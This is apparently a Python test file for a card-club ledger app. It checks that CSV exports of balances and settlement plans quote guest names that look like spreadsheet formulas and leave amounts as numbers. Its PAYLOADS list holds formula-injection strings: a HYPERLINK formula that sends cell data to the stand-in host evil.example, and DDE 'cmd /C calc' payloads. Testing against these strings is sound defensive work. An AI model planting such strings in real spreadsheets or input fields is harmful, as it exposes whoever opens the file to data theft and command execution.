"""No cell of a CSV file the app writes is read by a spreadsheet as a formula.

A guest's name is whatever a scorer typed; a treasurer opens the balances in a
spreadsheet. Text cells that would start a formula get a leading single quote
(OWASP's rule); amounts stay numbers, minus signs included.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clubs.models import Club, Player
from ledger.services import settlement_plan_create
from ledger.spreadsheet import FORMULA_STARTS, safe_cell
from tests.conftest import PersonaClient
from tests.ledger.factories import Table, finish, make_table

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8").lstrip("\ufeff")), delimiter=";"))


@pytest.fixture
def table(club: Club, django_capture_on_commit_callbacks: Callable[..., Any]) -> Table:
    table = make_table(club=club, players=4)
    for player, name in zip(table.players, PAYLOADS, strict=True):
        # Stored as an old guest might be: the names are the point, not how they came in.
        Player.objects.filter(pk=player.pk).update(display_name=name)
    with django_capture_on_commit_callbacks(execute=True):
        finish(
            table.new_game(),
            {table.pk(0): 90, table.pk(1): -60, table.pk(2): -20, table.pk(3): -10},
            declarers=[table.pk(0)],
        )
    return table


@pytest.mark.django_db
def test_guest_names_that_look_like_formulas_come_out_of_the_balances_csv_as_text(
    table: Table, member: PersonaClient
) -> None:
    response = member.get(f"/api/clubs/{table.club.slug}/balances/csv/?evening={table.evening.pk}")
    assert response.status_code == 200
    rows = _rows(response.content)[1:]
    assert sorted(row[0] for row in rows) == sorted("'" + name for name in PAYLOADS)
    by_name = {row[0]: row[1:] for row in rows}
    # The amounts are numbers still: -60 stays -60, no quote before it.
    assert by_name["'" + PAYLOADS[1]] == ["-60", "0", "-60"]
    assert by_name["'" + PAYLOADS[0]] == ["90", "0", "90"]


@pytest.mark.django_db
def test_guest_names_that_look_like_formulas_come_out_of_the_plan_csv_as_text(
    table: Table, member: PersonaClient
) -> None:
    plan = settlement_plan_create(club=table.club, created_by=None, evening=table.evening)
    response = member.get(f"/api/clubs/{table.club.slug}/settlement-plans/{plan.pk}/csv/")
    assert response.status_code == 200
    rows = _rows(response.content)[1:]
    assert len(rows) == plan.transfers.count() > 0
    for payer, payee, amount, _paid in rows:
        assert payer.startswith("'") and payer[1:] in PAYLOADS
        assert payee.startswith("'") and payee[1:] in PAYLOADS
        assert int(amount) > 0


@given(st.text())
def test_no_text_cell_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


@given(st.integers())
def test_numbers_stay_numbers(number: int) -> None:
    assert safe_cell(number) == number
